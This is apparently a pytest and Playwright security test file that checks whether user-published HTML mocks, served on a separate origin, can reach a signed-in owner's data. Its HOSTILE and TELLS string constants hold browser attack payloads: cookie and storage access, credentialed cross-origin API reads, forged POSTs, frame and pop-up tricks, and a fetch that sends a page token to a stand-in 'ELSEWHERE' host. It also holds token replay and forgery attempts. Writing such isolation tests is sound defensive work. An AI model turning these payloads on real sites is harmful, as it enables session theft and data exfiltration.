"""Other people's HTML on the mock origin, opened by somebody who is signed in to the application: it gets nothing."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.attack.test_takeover import api
from tests.mock_host.shelves import config_of
from tests.servers import Server, serving
from tests.web.visiting import begin, visit

HOSTILE: Final = """<!doctype html><title>x</title><head></head><body><script>
const app = "APP", path = "PATH", got = {};
const attempt = async (name, act) => {
  const slow = new Promise(done => setTimeout(() => done("refused"), 3000));
  try { got[name] = String(await Promise.race([act(), slow])) } catch (error) { got[name] = "refused" } };
const stolen = () => new URLSearchParams({item: "customer", field: "sentence", was: "before", value: "stolen"});
const asked = request => new Promise((done, no) => { request.onsuccess = () => done("kept"); request.onerror = no });
const framed = () => new Promise(done => {
  const frame = document.createElement("iframe"); frame.src = app + "/";
  frame.onload = () => { try { done(frame.contentDocument ? frame.contentDocument.body.innerText : "refused") }
    catch (error) { done("refused") } };
  document.body.append(frame) });
const socket = () => new Promise(done => { const live = new WebSocket(app.replace("http", "ws") + path + "/live/listen?last=0");
  live.onmessage = message => done(message.data); live.onclose = live.onerror = () => done("refused") });
const embedded = (tag, to) => new Promise(done => { const one = document.createElement(tag); one.src = to;
  one.onload = () => done("loaded"); one.onerror = () => done("refused"); document.body.append(one) });
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("a cookie of one's own", () => { document.cookie = "gyakusan=x"; return "kept" });
  await attempt("local storage", () => { localStorage.setItem("a", "b"); return "kept" });
  await attempt("session storage", () => { sessionStorage.setItem("a", "b"); return "kept" });
  await attempt("database", () => asked(indexedDB.open("x")));
  await attempt("cache", () => caches.open("x").then(() => "kept"));
  await attempt("service worker", () => navigator.serviceWorker.register("/tracker-sdk.js"));
  await attempt("read", async () => (await fetch(app + "/api/workshops", {credentials: "include"})).text());
  await attempt("read page", async () => (await fetch(app + path + "/listen", {credentials: "include"})).text());
  await attempt("read export", async () => (await fetch(app + path + "/export.zip", {credentials: "include"})).text());
  await attempt("write", async () => (await fetch(app + path + "/listen/edit", {method: "POST", credentials: "include",
    body: stolen()})).text());
  await fetch(app + path + "/listen/edit", {method: "POST", mode: "no-cors", credentials: "include", body: stolen()}).catch(() => 0);
  navigator.sendBeacon(app + path + "/listen/edit", stolen());
  await attempt("whoever visits", async () => (await fetch(location.href, {credentials: "include"})).text());
  await attempt("frame", framed);
  await attempt("script of the API", () => embedded("script", app + "/api/workshops"));
  await attempt("image of a page", () => embedded("img", app + "/static/logo.svg"));
  await attempt("socket", socket);
  await attempt("top", () => { top.document.title; return top === window ? "refused" : "reached" });
  await attempt("opener", () => opener ? opener.location.href : "refused");
  const pop = window.open(app + "WITH_FRAMES");
  await new Promise(done => setTimeout(done, 800));
  await attempt("window", () => pop.document.body.innerText);
  await attempt("the window's frames", () => pop.closed || pop.length === 0 ? "refused" : "counted " + pop.length);
  const form = document.createElement("form"); form.method = "post"; form.action = app + path + "/listen/edit"; form.target = "_blank";
  for (const [name, value] of stolen()) { const one = document.createElement("input"); one.name = name; one.value = value; form.append(one) }
  document.body.append(form); form.submit();
  const sign = window.open("about:blank");
  await attempt("a pop-up that looks like us", () => { sign.document.body.innerHTML = "<form><input></form>";
    return sign.eval("(() => { localStorage; return document.cookie })()") });
  document.title = JSON.stringify(got);
})();
</script>"""
TELLS: Final = """<!doctype html><title>x</title><head></head><body><script>
fetch("ELSEWHERE/?" + encodeURIComponent(document.getElementById("mlew-config").textContent), {mode: "no-cors", credentials: "include"})
  .finally(() => { document.title = "told" });
</script>"""


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Servers with mocks that are published, of two workshops."""
    with serving(tmp_path_factory.mktemp("hostile"), command="demo") as running:
        yield running


@pytest.fixture
def person(chromium: Browser, demo: Server) -> Iterator[BrowserContext]:
    """A browser in which the owner is signed in."""
    context = chromium.new_context()
    context.new_page().goto(demo.owner_link)
    yield context
    context.close()


def published(server: Server, workshop: int) -> list[str]:
    """Addresses of the published mocks of a workshop."""
    with visit(server, server.owner_link) as owner:
        listed = owner.get("/api/workshops").json()
        mocks = owner.get(f"/api/workshops/{listed[workshop]['id']}").json()["mocks"]
    return [mock["slug"] for mock in mocks if mock["state"] == "published"]


def written(server: Server, slug: str, page: str) -> None:
    """Somebody's own HTML in place of the mock's page."""
    (server.data / "mocks" / "sites" / slug / "index.html").write_text(page, "utf-8")


@pytest.mark.parametrize("kind", ["m", "preview"])
def test_a_hostile_mock_gets_nothing(demo: Server, person: BrowserContext, kind: str) -> None:
    """Cookies, storage, API, posts, frames, live connection, pop-ups: tried in a real browser, at both addresses."""
    with visit(demo, demo.owner_link) as owner:
        framing = owner.get("/api/workshops").json()[0]["id"]
        path = begin(owner, "before")
        slug = published(demo, 0)[0]
        written(
            demo,
            slug,
            HOSTILE.replace("APP", demo.application)
            .replace("PATH", path)
            .replace("WITH_FRAMES", f"/w/{framing}/mocks"),
        )
        tab = person.new_page()
        tab.goto(f"{demo.mocks}/m/{published(demo, 0)[1]}/")  # a visitor who has the cookie of the mocks
        tab.goto(f"{demo.mocks}/{kind}/{slug}/")
        tab.wait_for_function("document.title.startsWith('{')", timeout=45_000)
        got: dict[str, str] = json.loads(tab.title())
        assert {name: value for name, value in got.items() if value != "refused"} == {}
        assert len(got) == HOSTILE.count("await attempt(")
        assert owner.get(api(path)).json()["customers"][0]["sentence"] == "before"


def test_a_mock_opened_from_the_application_does_not_know_who_opened_it(
    demo: Server, person: BrowserContext
) -> None:
    """Every link that leads to a mock: no opener, no referrer with the workshop's name in it."""
    slug = published(demo, 1)[1]  # nothing hostile is framed in this workshop's pages
    with visit(demo, demo.owner_link) as owner:
        workshop = owner.get("/api/workshops").json()[1]["id"]
    tab = person.new_page()
    tab.goto(f"{demo.application}/w/{workshop}/mocks")
    with person.expect_page() as opened:
        tab.locator(f"a[href*='/{slug}/']:visible").first.click()
    mock = opened.value
    mock.wait_for_load_state()
    assert mock.url.startswith(demo.mocks)
    assert mock.evaluate("[window.opener, document.referrer]") == [None, ""]


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """Another site: its address, and what it was told (path and headers)."""
    told: list[dict[str, str]] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.append({"path": self.path, **{name.lower(): value for name, value in self.headers.items()}})
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Keep the test's output quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as served:
        thread = threading.Thread(target=served.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{served.server_address[1]}", told
        served.shutdown()
        thread.join()


def test_what_a_mock_can_carry_away_is_a_name_that_is_good_for_itself_alone(
    demo: Server, person: BrowserContext, elsewhere: tuple[str, list[dict[str, str]]]
) -> None:
    """A mock may speak to any site, so it can tell the token in its own page. That names the visitor in this workshop only,
    opens no other mock's collector, and is not the cookie."""
    address, told = elsewhere
    own, theirs = published(demo, 0)[1], published(demo, 1)[0]
    tab = person.new_page()
    tab.goto(f"{demo.mocks}/m/{theirs}/")
    other: dict[str, Any] = config_of(tab.content())
    written(demo, own, TELLS.replace("ELSEWHERE", address))
    tab.goto(f"{demo.mocks}/m/{own}/")
    tab.wait_for_function("document.title === 'told'")
    (request,) = [one for one in told if "applicationId" in one["path"]]
    assert "cookie" not in request
    assert request.get("referer", "") == ""
    carried = config_of(tab.content())
    cookies = {str(cookie.get("name")): str(cookie.get("value")) for cookie in person.cookies(demo.mocks)}
    name = cookies["visitor"].split(".")[0]
    assert name not in request["path"]
    assert name not in carried["visitor"]
    claims = [json.loads(decoded(config["visitor"])) for config in (carried, other)]
    assert claims[0][1] != claims[1][1]  # the same browser is somebody else in the other workshop
    events = [{"eventType": "view", "page": "landing"}]
    replayed = {
        "applicationId": theirs,
        "apiKey": other["apiKey"],
        "visitor": carried["visitor"],
        "events": events,
    }
    assert httpx.post(f"{demo.mocks}/v1/events", json=replayed).status_code == 401
    body, _, signature = carried["visitor"].partition(".")
    forged = {**replayed, "visitor": f"{other['visitor'].partition('.')[0]}.{signature}"}
    assert httpx.post(f"{demo.mocks}/v1/events", json=forged).status_code == 401
    with httpx.Client(cookies={"visitor": claims[0][1], "gyakusan": body}) as thief:
        page = config_of(thief.get(f"{demo.mocks}/m/{theirs}/").text)
        assert json.loads(decoded(page["visitor"]))[1] not in (claims[0][1], claims[1][1])
        assert thief.get(f"{demo.application}/api/workshops").status_code == 401


def decoded(token: str) -> bytes:
    """What a visitor's token says; anybody can read it, nobody but the host can write it."""
    from base64 import urlsafe_b64decode

    body = token.partition(".")[0]
    return urlsafe_b64decode(body + "=" * (-len(body) % 4))
